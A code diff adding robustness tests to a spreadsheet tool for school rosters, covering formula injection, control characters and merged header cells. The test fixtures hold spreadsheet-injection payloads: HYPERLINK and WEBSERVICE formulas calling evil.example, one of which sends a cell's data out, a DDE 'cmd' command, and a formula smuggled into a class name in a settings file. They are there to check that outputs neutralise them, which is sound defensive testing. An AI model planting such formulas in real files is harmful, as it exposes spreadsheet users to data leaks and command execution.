@@ -6,11 +6,15 @@ from __future__ import annotations
 
 import zipfile
 from pathlib import Path
+from xml.etree import ElementTree
 
+import openpyxl
 import pytest
+from python_calamine import CalamineWorkbook
 
-from tests.rawxlsx import sheet_xml, write_xlsx
+from tests.rawxlsx import Formula, sheet_xml, write_xlsx
 from tests.robustness import cli, roster_rows, xueji  # noqa: F401 (fixture)
+from xueji_addin.workbook.reader import read_roster
 
 ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
@@ -92,3 +96,120 @@ def test_xlsb_is_refused_with_a_sentence(tmp_path):
         z.writestr("xl/workbook.bin", b"\x83\x01\x00")
         z.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00")
     _one_sentence(xueji("validate", p, timeout=60), "xlsb", "另存为 .xlsx")
+
+
+# --- 5. formulas from data never reach an output live ------------------------------------------
+
+LIVE = ['HYPERLINK("http://evil.example/x","点我")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example/?q="&A2)']
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Every formula an output holds, as ``sheet!cell: formula``."""
+    wb = openpyxl.load_workbook(path)
+    return [f"{ws.title}!{c.coordinate}: {c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def test_formulas_of_the_input_are_copied_as_their_saved_values(cli, tmp_path):
+    rows = roster_rows(size=3)
+    name = rows[1][1]
+    rows[1][1] = Formula(LIVE[0], cached=name)
+    rows[2][3] = Formula(LIVE[1], cached="0")
+    rows[3][4] = Formula(LIVE[2], cached="")
+    src = write_xlsx(tmp_path / "公式.xlsx", rows)
+    outs = {"marked": tmp_path / "m.xlsx", "fix": tmp_path / "f.xlsx", "dropdowns": tmp_path / "d.xlsx"}
+    cli("validate", src, "--marked", outs["marked"])
+    cli("fix", src, "--out", outs["fix"])
+    cli("dropdowns", src, "--out", outs["dropdowns"])
+    for what, out in outs.items():
+        assert out.exists(), what
+        live = [f for f in _formula_cells(out) if any(w in f for w in ("HYPERLINK", "cmd|", "WEBSERVICE"))]
+        assert live == [], (what, live)
+        ws = openpyxl.load_workbook(out)["学生基础信息"]
+        assert ws.cell(2, 2).value == name and ws.cell(2, 2).data_type == "s", what  # the saved value, as text
+    code, out, _ = cli("validate", src, "--json", "-")
+    assert "不再是公式" in out  # 校验结果 and the report say what the copy did
+
+
+def test_the_files_own_class_list_is_written_as_text(cli, tmp_path):
+    """The hidden 学校设置 sheet is the file's own data: its class list goes into 代码表 as text."""
+    toml = tmp_path / "xueji.toml"
+    toml.write_text('[xueji]\nclasses = ["=HYPERLINK(\\"http://evil.example\\",\\"1班\\")", "20240101"]\n', "utf-8")
+    tpl = tmp_path / "班级.xlsx"
+    assert cli("template", "--out", tpl, "--settings", toml)[0] == 0
+    wb = openpyxl.load_workbook(tpl)
+    ws = wb["学生基础信息"]
+    for c, v in enumerate(roster_rows(size=1)[1], start=1):
+        ws.cell(2, c).value = v
+    wb.save(tpl)
+    runs = {"marked": ("validate", tpl, "--marked", tmp_path / "m.xlsx"), "fix": ("fix", tpl, "--out", tmp_path / "f.xlsx"),
+            "split": ("split", tpl, "--out-dir", tmp_path / "s"), "template": ("template", "--out", tmp_path / "t.xlsx", "--settings", toml)}
+    for what, args in runs.items():
+        cli(*args)
+    outputs = [tmp_path / "m.xlsx", tmp_path / "f.xlsx", tmp_path / "t.xlsx", *(tmp_path / "s").glob("*.xlsx")]
+    assert len(outputs) >= 4
+    for out in outputs:
+        assert not [f for f in _formula_cells(out) if "HYPERLINK" in f], out.name
+
+
+# --- 6. characters XML cannot hold never make a corrupt output ----------------------------------
+
+def _opens(path: Path) -> None:
+    """Every XML part parses (Excel refuses the file otherwise), and both readers open it."""
+    with zipfile.ZipFile(path) as z:
+        for n in z.namelist():
+            if n.endswith((".xml", ".rels", ".vml")):
+                ElementTree.fromstring(z.read(n))
+    openpyxl.load_workbook(path)
+    CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
+
+
+def test_non_characters_and_control_characters_never_corrupt_an_output(cli, tmp_path):
+    rows = roster_rows(size=4)
+    rows[1][1] = "张\ufffe三"
+    rows[2][1] = "李\uffff四"
+    rows[3][1] = "王\x01五\x1b[31m"
+    src = tmp_path / "怪字.csv"
+    src.write_text("\n".join(",".join(str(v) for v in r) for r in rows), "utf-8")
+    toml = tmp_path / "xueji.toml"
+    toml.write_text('[xueji]\nschool_name = "第一\\u0001小学\\uFFFE"\n', "utf-8")
+    runs = [("validate", src, "--marked", tmp_path / "m.xlsx"), ("fix", src, "--out", tmp_path / "f.xlsx"),
+            ("split", src, "--out-dir", tmp_path / "s", "--settings", toml), ("merge", src, "--out", tmp_path / "g.xlsx"),
+            ("import", src, "--out", tmp_path / "i.xlsx"), ("export", src, "--out", tmp_path / "e.xlsx", "--force"),
+            ("dropdowns", src, "--out", tmp_path / "d.xlsx"), ("print", src, "--out", tmp_path / "p.xlsx", "--settings", toml)]
+    for args in runs:
+        code, _, err = cli(*args)
+        assert code in (0, 1), (args[0], err)
+    outputs = sorted(p for p in tmp_path.rglob("*.xlsx"))
+    assert len(outputs) >= 8
+    for out in outputs:
+        _opens(out)
+    back = read_roster(tmp_path / "g.xlsx").cells["name"]
+    # nothing dropped: read back as it was (python-calamine leaves the escape of a non-character as it is)
+    assert back[0] in ("张\ufffe三", "张_xFFFE_三") and back[1] in ("李\uffff四", "李_xFFFF_四")
+    assert back[2] == "王\x01五\x1b[31m"
+
+
+# --- 9. merged header cells ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("merge", ["C1:C2", "A1:A3", "D2:E2"])
+def test_merged_cells_under_the_header_do_not_crash_a_copy(cli, tmp_path, merge):
+    rows = roster_rows(size=3)
+    rows[1][2] = "不是性别"
+    rows[2][5] = ""
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "学生基础信息"
+    for r in rows:
+        ws.append(r)
+    ws.merge_cells(merge)
+    src = tmp_path / "合并.xlsx"
+    wb.save(src)
+    for args in (("validate", src, "--marked", tmp_path / "m.xlsx"), ("fix", src, "--out", tmp_path / "f.xlsx"),
+                 ("dropdowns", src, "--out", tmp_path / "d.xlsx")):
+        code, _, err = cli(*args)
+        assert code in (0, 1) and "内部错误" not in err, (args[0], err)
+        assert Path(args[-1]).exists()
+    notes = [c.comment.text for row in openpyxl.load_workbook(tmp_path / "m.xlsx")["学生基础信息"].iter_rows()
+             for c in row if c.comment]
+    assert notes  # the marks are there, a note of a covered cell on its merge's first cell
